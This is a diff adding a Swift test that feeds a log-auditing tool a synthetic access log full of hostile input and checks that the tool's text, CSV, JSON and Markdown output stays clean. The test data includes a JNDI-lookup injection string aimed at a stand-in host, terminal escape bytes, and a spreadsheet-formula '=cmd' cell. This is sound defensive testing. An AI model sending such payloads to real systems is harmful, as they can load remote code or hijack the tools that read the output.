@@ -75,6 +75,57 @@ import Testing
     }
   }
 
+  /// The same texts as referrers, requests and agents of a log.
+  static let log: [UInt8] = {
+    var bytes: [UInt8] = []
+    let texts = anchors + ["${jndi:ldap://e.example/a}", String(repeating: "B", count: 1 << 20)]
+    for (number, text) in texts.enumerated() {
+      let line =
+        "203.0.113.\(number) - - [17/May/2025:10:05:03 +0000] \"GET /gone?\(text) HTTP/1.1\" 404 5 "
+        + "\"https://s\(number).example/\(text)\" \"\(text)\"\n"
+      bytes += Array(line.replacingOccurrences(of: "\"http://evil", with: "'http://evil").utf8)
+      bytes += Array("203.0.113.9 - - [17/May/2025:10:05:03 +0000] \"".utf8)
+      bytes += [0, 0x1B, 0x9B, 0xFF, 0xC3] + Array("\" 200 5 \"https://b\(number).example/".utf8)
+      bytes += [0xE9, 0xFF] + Array("\" \"=cmd\"\n".utf8)
+    }
+    return bytes
+  }()
+
+  @Test func `nothing from a log steers what reads the output`() throws {
+    let folder = try TemporaryFolder()
+    let path = try folder.write("access.log", HostileTextTests.log)
+    for command in [["audit", "--site", "shop.example"], ["inspect", "--site", "shop.example"]] {
+      let run = try CommandRun(command + [path])
+      #expect(HostileTextTests.isSafe(run.output), "\(run.output.debugDescription)")
+      #expect(HostileTextTests.isSafe(run.errors), "\(run.errors.debugDescription)")
+    }
+    let lines = try CommandRun("convert", "--site", "shop.example", path).output.split(
+      separator: "\n")
+    #expect(lines.count >= 5)
+    for line in lines {
+      let object = try JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any]
+      #expect(object?["kind"] as? String == "referral")
+    }
+    let csv = try CommandRun("convert", "--site", "shop.example", "--to", "csv", path).output
+    for cell in PlainCSV.records(csv).flatMap({ $0 }) {
+      #expect(!["=", "+", "-", "@"].contains(String(cell.prefix(1))), "\(cell)")
+    }
+    let out = folder.path("out")
+    let audit = try CommandRun(
+      "audit", "--site", "shop.example", "--max-rejects", "100", "--out", out, path)
+    #expect(audit.code == 0, "\(audit.errors)")
+    let page = try String(contentsOfFile: out + "/summary.md", encoding: .utf8)
+    #expect(HostileTextTests.isSafe(page))
+    #expect(page.contains("Links to pages that are not there"))
+    for line in page.split(separator: "\n") {
+      let outside = line.split(separator: "`", omittingEmptySubsequences: false)
+        .enumerated().filter { $0.offset % 2 == 0 }.map(\.element).joined()
+      #expect(!outside.contains("<script>"), "\(line)")
+    }
+    let summary = try Data(contentsOf: URL(filePath: out + "/summary.json"))
+    _ = try JSONSerialization.jsonObject(with: summary)
+  }
+
   @Test func `Markdown and disavow file hold no markup of a stranger`() throws {
     let audited = try Audited(HostileTextTests.export)
     let page = try audited.file("summary.md")
